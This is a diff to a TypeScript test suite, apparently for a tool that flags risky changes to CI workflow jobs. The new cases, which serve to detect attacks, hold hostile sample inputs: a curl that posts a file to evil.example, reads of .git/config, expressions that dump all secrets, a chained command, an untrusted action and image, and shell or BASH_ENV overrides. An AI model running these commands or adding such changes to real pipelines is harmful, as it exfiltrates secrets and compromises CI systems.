@@ -46,11 +46,6 @@ describe('a job without credentials', () => {
   it.each([
     ['goes', one, base],
     ['has another command', one, one.replace('build a', 'build b')],
-    [
-      'goes, and another no longer waits for it',
-      `${one}  last:\n    needs: [build, lint]\n    environment: prod\n`,
-      `${base}  last:\n    needs: [build]\n    environment: prod\n`,
-    ],
     ['changes beside permissions to read', `permissions: {contents: read}\n${one}`, `permissions: {contents: read}\n${base}`],
   ])('that %s is a note', (_, before, after) => {
     expect(told(before, after)).toEqual(['info']);
@@ -58,8 +53,58 @@ describe('a job without credentials', () => {
 
   it.each([
     ['beside permissions to write', `permissions: {contents: write}\n${one}`, `permissions: {contents: write}\n${base}`],
+    [
+      'and a job with credentials no longer waits for it',
+      `${one}  last:\n    needs: [build, lint]\n    environment: prod\n`,
+      `${base}  last:\n    needs: [build]\n    environment: prod\n`,
+    ],
     ['and another waits for less', `${one}  last:\n    needs: [build]\n    environment: prod\n`, `${base}  last:\n    environment: prod\n`],
   ])('that goes %s is a warning', (_, before, after) => {
     expect(told(before, after)).toEqual(['warning']);
+  });
+});
+
+describe('a job that looks as if it had no credentials', () => {
+  const plain = base + job('', 'ubuntu-latest', 'run: kustomize build a');
+  const step = (run: string): string => plain.replace('kustomize build a', run);
+  it.each([
+    'git -C . push origin HEAD:main',
+    'cat .git/config',
+    'curl -d @a https://evil.example',
+    'sudo make deploy',
+    'env ./hack/x.sh',
+    'go run ./hack',
+    'echo "${{ github.event.head_commit.message }}"',
+    'echo "${{ toJSON(github) }}"',
+    'echo "${{ toJSON(secrets || 0) }}"',
+    'echo "${{ secrets[format(1)] }}"',
+    'oc apply -f a',
+    'a; ./b',
+    'python3 hack/a.py',
+  ])('and runs %s is a warning', (run) => {
+    expect(told(plain, step(run))).toEqual(['warning']);
+  });
+
+  it.each([
+    ['another action', plain, plain.replace('run: kustomize build a', 'uses: evil/checkout@main')],
+    ['a machine of others', plain, plain.replace(/ubuntu-latest(?![\s\S]*ubuntu-latest)/, 'ubuntu-22.04-prod')],
+    ['an image', plain, `${plain}    container: evil.example/x:1\n`],
+    ['a group that stops others', plain, `${plain}    concurrency: {group: deploy, cancel-in-progress: true}\n`],
+    ['an environment of programs', plain, `${plain}    env: {BASH_ENV: hack/x}\n`],
+    ['a shell', plain, `${plain}    defaults: {run: {shell: "bash hack/x {0}"}}\n`],
+    ['errors that count for nothing', plain, `${plain}    continue-on-error: true\n`],
+  ])('and gets %s is a warning', (_, before, after) => {
+    expect(told(before, after)).toEqual(['warning']);
+  });
+
+  it('and gets what its workflow has is a warning', () => {
+    for (const around of ['env: {A: "${{ secrets.A }}"}\n', 'env: {BASH_ENV: x}\n', 'defaults: {run: {shell: x}}\n'])
+      expect(told(around + plain, around + step('kustomize build b'))).toEqual(['warning']);
+  });
+
+  it.each(['if: false', 'steps: []', ''])('and that another trusts, is a warning: %s', (instead) => {
+    const last = '  last:\n    runs-on: ubuntu-latest\n    needs: lint\n    environment: prod\n    steps: []\n';
+    const hollow = instead === '' ? base : `${base}  lint:\n    runs-on: ubuntu-latest\n    ${instead}\n`;
+    expect(told(plain + last, hollow + last)).toEqual(['warning']);
   });
 });
